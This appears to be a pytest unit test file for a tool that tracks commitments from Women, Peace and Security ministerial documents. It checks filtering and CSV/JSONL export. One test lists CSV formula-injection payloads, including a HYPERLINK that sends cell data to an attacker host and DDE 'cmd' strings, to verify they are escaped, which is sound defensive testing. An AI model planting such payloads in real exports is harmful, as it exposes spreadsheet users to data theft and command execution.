"""The commitments tracker over the four test documents (no model: facts as ingest computes them)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from assistant.views.commitments import CSV_COLUMNS, Commitment, CommitmentFilter, CommitmentTracker, to_csv, to_jsonl
from tests.views.tables import four, rome

pytestmark = pytest.mark.unit


@pytest.fixture(scope="module")
def tracker() -> CommitmentTracker:
    return CommitmentTracker(four())


def test_rows_are_every_operative_sentence_in_meeting_date_order(tracker):
    dates = [c.date for c in tracker.rows]
    assert dates == sorted(dates)
    assert len(tracker.rows) == 13 + 15 + 14 + 20  # the hand lists of tests/ingest/test_operative.py
    assert CommitmentTracker(rome()).rows[0].sentence.startswith("Recalling the 2025 communiqués")


def test_each_row_quotes_its_sentence_exactly_in_its_paragraph(tracker):
    for c in tracker.rows:
        assert c.citation.text[c.citation.quote_start :].startswith(c.citation.quote)
        assert c.citation.quote == c.sentence
        assert c.citation.date == c.date and c.citation.section == c.section


def test_filters_combine_meeting_type_addressee_section_and_words(tracker):
    calls = tracker.filter(CommitmentFilter(meetings=("Rome 2026",), types=("call",)))
    assert [c.paragraph for c in calls] == [20, 21, 21]
    to_states = tracker.filter(CommitmentFilter(addressees=("states",), meetings=("2026",)))
    assert {c.paragraph for c in to_states} == {6, 12, 14, 21}
    oda = tracker.filter(CommitmentFilter(sections=("Prevention",), words="ODA"))
    assert {c.meeting for c in oda} == {"Santiago 2022", "Nairobi 2024", "Rome 2026"}
    assert tracker.filter(CommitmentFilter(words="quokka")) == []


def test_a_meeting_is_named_by_doc_id_short_name_year_or_meeting(tracker):
    doc_id = tracker.rows[0].doc_id
    for name in (doc_id, "New York 2019", "2019", "WPS Focal Points Network Ministerial Meeting"):
        assert {c.doc_id for c in tracker.filter(CommitmentFilter(meetings=(name,)))} == {doc_id}, name


def test_facets_list_what_each_filter_can_be(tracker):
    facets = tracker.facets()
    assert facets["meetings"] == ["New York 2019", "Santiago 2022", "Nairobi 2024", "Rome 2026"]
    assert facets["pillars"] == ["Participation", "Protection", "Prevention", "Relief and Recovery"]
    assert {"States", "members", "regional organizations", "UN Women"} <= set(facets["addressees"])
    assert facets["types"][0] == "recommend"


def test_csv_and_jsonl_exports_hold_every_row(tracker):
    rows = tracker.filter(CommitmentFilter(types=("welcome",)))
    table = list(csv.DictReader(io.StringIO(to_csv(rows).removeprefix("\ufeff"))))
    assert tuple(table[0]) == CSV_COLUMNS and len(table) == len(rows)
    assert table[0]["sentence"] == rows[0].sentence and table[0]["type"] == "welcome"
    lines = to_jsonl(rows).splitlines()
    assert [Commitment.model_validate(json.loads(line)).id for line in lines] == [c.id for c in rows]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://attacker.example/?x="&A1,"details")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_a_csv_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(tracker, text):
    row = tracker.filter(CommitmentFilter())[0]
    hostile = row.model_copy(update={"sentence": text, "meeting": text, "section": text})
    out = to_csv([hostile])
    assert out.startswith("\ufeff")
    table = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))
    for column in ("sentence", "meeting", "section"):
        assert table[0][column] == "'" + text


def test_ordinary_csv_cells_are_left_as_they_are(tracker):
    row = tracker.filter(CommitmentFilter())[0]
    table = list(csv.DictReader(io.StringIO(to_csv([row]).removeprefix("\ufeff"))))
    assert table[0]["sentence"] == row.sentence and table[0]["date"] == row.date
